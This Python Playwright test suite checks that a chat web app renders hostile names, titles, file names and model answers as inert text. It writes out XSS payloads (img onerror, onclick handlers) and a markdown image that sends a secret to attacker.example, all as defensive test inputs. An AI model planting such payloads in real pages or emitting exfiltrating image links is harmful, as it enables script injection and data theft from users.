"""Words that try to run: in names, titles, file names, answers and shared conversations. None may run, fetch or pose."""

import base64
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.browser.chat import Chat
from tests.browser.hostile import ALL, FAR, MARKUP, SCRIPT
from tests.browser.pages import settled
from tests.browser.people import Person
from tests.fakes.scripted_server import ScriptedServer

HOSTILE_NAME = "<img src=x onerror='window.harmed=1;alert(1)'>"


def unharmed(page: Page) -> None:
    """No mark of a script, no foreign element and no handler anywhere in the page."""
    assert page.evaluate("window.harmed") is None
    selector = (
        "script:not([src^='/assets/']), iframe:not([sandbox]), object, embed, base, form[action], [style*='url(']"
    )
    assert page.locator(selector).count() == 0
    handlers = (
        "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))"
    )
    assert page.evaluate(handlers) == []
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map((a) => a.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", "tel:", "blob:"}
    images = page.evaluate("[...document.images].map((i) => i.src)")
    assert not [one for one in images if one.startswith(FAR)]


@pytest.mark.parametrize("at", range(0, len(ALL), 10))
def test_no_answer_runs_while_it_streams_nor_when_it_is_read_again(
    chat: Chat, scripted: ScriptedServer, at: int
) -> None:
    scripted.texts[f"hostile{at}"] = "\n\n".join([*ALL[at : at + 10], "the end of the corpus"])
    answer = chat.ask(f"say:hostile{at}")
    expect(answer).to_contain_text("the end of the corpus")
    unharmed(chat.page)
    for link in answer.get_by_role("link").all():
        link.hover()
    chat.page.reload()
    expect(chat.answers.last).to_contain_text("the end of the corpus")
    unharmed(chat.page)


def test_no_name_title_question_or_instruction_runs(browser: Browser, newcomer: Callable[..., Person]) -> None:
    person = newcomer(name=HOSTILE_NAME)
    project = person.call("POST", "/v1/projects", json={"name": HOSTILE_NAME, "instructions": SCRIPT})
    person.call("POST", "/v1/shortcuts", json={"name": "hostile", "text": MARKUP[0]})
    body = {"model": "scripted", "inputs": "\n".join(MARKUP), "stream": False, "project_id": project["id"]}
    made = person.call("POST", "/v1/conversations", json=body)["conversation_id"]
    person.call("PATCH", f"/v1/conversations/{made}", json={"name": HOSTILE_NAME})
    with person.window(browser) as context:
        page = context.new_page()
        chat = Chat(page).open(f"/chat/{made}")
        expect(chat.questions).to_contain_text("<script>")
        expect(chat.list.get_by_role("link").first).to_contain_text("<img")
        unharmed(page)
        for path in (f"/projects/{project['id']}", "/projects", "/settings", "/"):
            page.goto(path)
            expect(page.get_by_text("<img src=x").first).to_be_visible()
            unharmed(page)
        chat.field.fill("/host")
        expect(page.get_by_role("option")).to_contain_text("<script>")
        unharmed(page)
        page.get_by_role("searchbox", name=chat.word("chat.search")).fill("onerror")
        expect(chat.list.locator("mark").first).to_be_visible()
        unharmed(page)


def test_the_model_names_a_conversation_in_plain_words_only(chat: Chat, scripted: ScriptedServer) -> None:
    first = chat.list.get_by_role("link").first
    try:
        scripted.title = "Of rivers and bridges"
        chat.ask("what do you call this")
        expect(first).to_contain_text("Of rivers and bridges")
        chat.page.goto("/")
        scripted.title = "<b onclick=alert(1)>Title"
        chat.ask("and what is this")
        expect(first).to_contain_text("and what is this")
    finally:
        scripted.title = ""
    unharmed(chat.page)


def test_a_hostile_file_name_is_only_words(chat: Chat) -> None:
    name = "<img src=x onerror=alert(1)>.txt"
    chat.page.locator("input[type=file]").set_input_files(
        {"name": name, "mimeType": "text/plain", "buffer": f"<script>{SCRIPT}</script>".encode()}
    )
    expect(chat.page.get_by_text(name)).to_be_visible()
    chat.ask("look at this file")
    expect(chat.page.locator("article.question").get_by_text(name)).to_be_visible()
    chat.page.reload()
    expect(chat.page.locator("article.question").get_by_text(name)).to_be_visible()
    unharmed(chat.page)


def test_a_shared_conversation_runs_nothing_at_a_colleague(
    browser: Browser, newcomer: Callable[..., Person], scripted: ScriptedServer
) -> None:
    owner, colleague = newcomer(name=HOSTILE_NAME), newcomer()
    scripted.texts["shared"] = "\n\n".join([*ALL, "the end of the corpus"])
    document = base64.b64encode(MARKUP[0].encode()).decode()
    content = [
        {"type": "text", "text": "say:shared\n" + "\n".join(MARKUP)},
        {"type": "document_url", "document_url": f"data:text/plain;base64,{document}", "document_name": HOSTILE_NAME},
    ]
    body = {"model": "scripted", "inputs": [{"role": "user", "content": content}], "stream": False}
    made = owner.call("POST", "/v1/conversations", json=body)["conversation_id"]
    owner.call("PATCH", f"/v1/conversations/{made}", json={"name": HOSTILE_NAME})
    share = owner.call("POST", f"/v1/conversations/{made}/shares")
    with colleague.window(browser) as context:
        page = context.new_page()
        page.goto(share["path"])
        expect(page.get_by_text("the end of the corpus")).to_be_visible()
        expect(page.get_by_role("heading", level=1)).to_contain_text("<img")
        settled(page)
        unharmed(page)


def test_a_remote_picture_is_never_fetched(chat: Chat, scripted: ScriptedServer) -> None:
    scripted.texts["picture"] = f"Look: ![the secret]({FAR}/leak?words=secret) and that was it"
    answer = chat.ask("say:picture")
    expect(answer).to_contain_text("attacker.example")
    expect(answer).to_contain_text("that was it")
    assert answer.locator("img").count() == 0
